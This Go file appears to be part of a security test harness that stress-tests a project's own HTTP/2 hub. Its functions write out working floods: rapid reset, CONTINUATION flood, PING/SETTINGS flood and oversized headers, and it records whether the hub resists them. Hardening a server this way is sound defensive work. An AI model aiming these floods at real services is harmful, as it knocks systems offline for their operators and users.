// Copyright The edgehub Authors.
// SPDX-License-Identifier: Apache-2.0

package security

import (
	"context"
	"errors"
	"net"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// request is a header block of HTTP/2.
func (a *attacker) request(credential string) []byte {
	fields := []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"}, {Name: ":path", Value: secrets}, {Name: "user-agent", Value: a.fill("{agent}")}}
	if name, value, ok := strings.Cut(a.fill(credential), ": "); ok {
		fields = append(fields, hpack.HeaderField{Name: strings.ToLower(name), Value: value})
	}
	return encode(fields)
}

// floodHTTP2 writes frames until the hub ends the connection, and waits then for
// the answer to a PING if it has not.
func (a *attacker) floodHTTP2(ctx context.Context, write func(*http2.Framer, *strain) error) (s strain, err error) {
	conn, err := a.connect(ctx, "h2")
	if err != nil {
		return s, err
	}
	defer conn.Close()
	start := time.Now()
	_ = conn.SetDeadline(start.Add(slowPatience)) // a network connection takes one
	counted := &countedConn{Conn: conn}
	f, err := startHTTP2(counted)
	if err != nil {
		return s, err
	}
	s.Connections = 1
	over := make(chan int, 1)
	go func() { over <- readUntilOver(f, &s) }()
	err = write(f, &s)
	if err == nil {
		err = f.WritePing(false, lastPing)
	}
	status := <-over
	if status >= 0 {
		s.saw(status)
	}
	s.Written, s.Longest = counted.written.Load(), time.Since(start)
	return s, nil // what was not written the hub did not want
}

var lastPing = [8]byte{'l', 'a', 's', 't'}

type countedConn struct {
	net.Conn
	written atomic.Int64
}

func (c *countedConn) Write(b []byte) (int, error) {
	n, err := c.Conn.Write(b)
	c.written.Add(int64(n))
	return n, err
}

// readUntilOver returns the last status seen, 0 for none, when the last PING is
// answered or the connection has ended, which it notes.
func readUntilOver(f *http2.Framer, s *strain) (status int) {
	for {
		frame, err := f.ReadFrame()
		var stream http2.StreamError
		if errors.As(err, &stream) {
			continue
		}
		if err != nil {
			if !errors.Is(err, os.ErrDeadlineExceeded) {
				s.Ended = 1
			}
			return status
		}
		switch frame := frame.(type) {
		case *http2.MetaHeadersFrame:
			if code, err := strconv.Atoi(frame.PseudoValue("status")); err == nil {
				status = code
			}
		case *http2.PingFrame:
			if frame.IsAck() && frame.Data == lastPing {
				return status
			}
		}
	}
}

func rapidReset(n int, credential string) func(context.Context, *attacker) (strain, error) {
	return func(ctx context.Context, a *attacker) (strain, error) {
		block := a.request(credential)
		return a.floodHTTP2(ctx, func(f *http2.Framer, _ *strain) error {
			for i := range n {
				id := uint32(2*i + 1)
				if err := errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}), f.WriteRSTStream(id, http2.ErrCodeCancel)); err != nil {
					return err
				}
			}
			return nil
		})
	}
}

func continuation(ctx context.Context, a *attacker) (strain, error) {
	return a.floodHTTP2(ctx, func(f *http2.Framer, _ *strain) error {
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.request("")})
		for i := 0; i < 20000 && err == nil; i++ {
			err = f.WriteContinuation(1, false, encode([]hpack.HeaderField{{Name: "x-a", Value: strings.Repeat("a", 1000), Sensitive: true}}))
		}
		return err
	})
}

func pings(ctx context.Context, a *attacker) (strain, error) {
	return a.floodHTTP2(ctx, func(f *http2.Framer, _ *strain) (err error) {
		for i := 0; i < 3000 && err == nil; i++ {
			err = errors.Join(f.WritePing(false, [8]byte{byte(i)}), f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)}))
		}
		return err
	})
}

func hugeHTTP2Header(ctx context.Context, a *attacker) (strain, error) {
	return a.floodHTTP2(ctx, func(f *http2.Framer, _ *strain) error {
		block := append(a.request(""), encode([]hpack.HeaderField{{Name: "x-a", Value: strings.Repeat("a", mega)}})...)
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:16000], EndStream: true})
		for block = block[16000:]; err == nil && len(block) > 0; {
			n := min(16000, len(block))
			err = f.WriteContinuation(1, n == len(block), block[:n])
			block = block[n:]
		}
		return err
	})
}
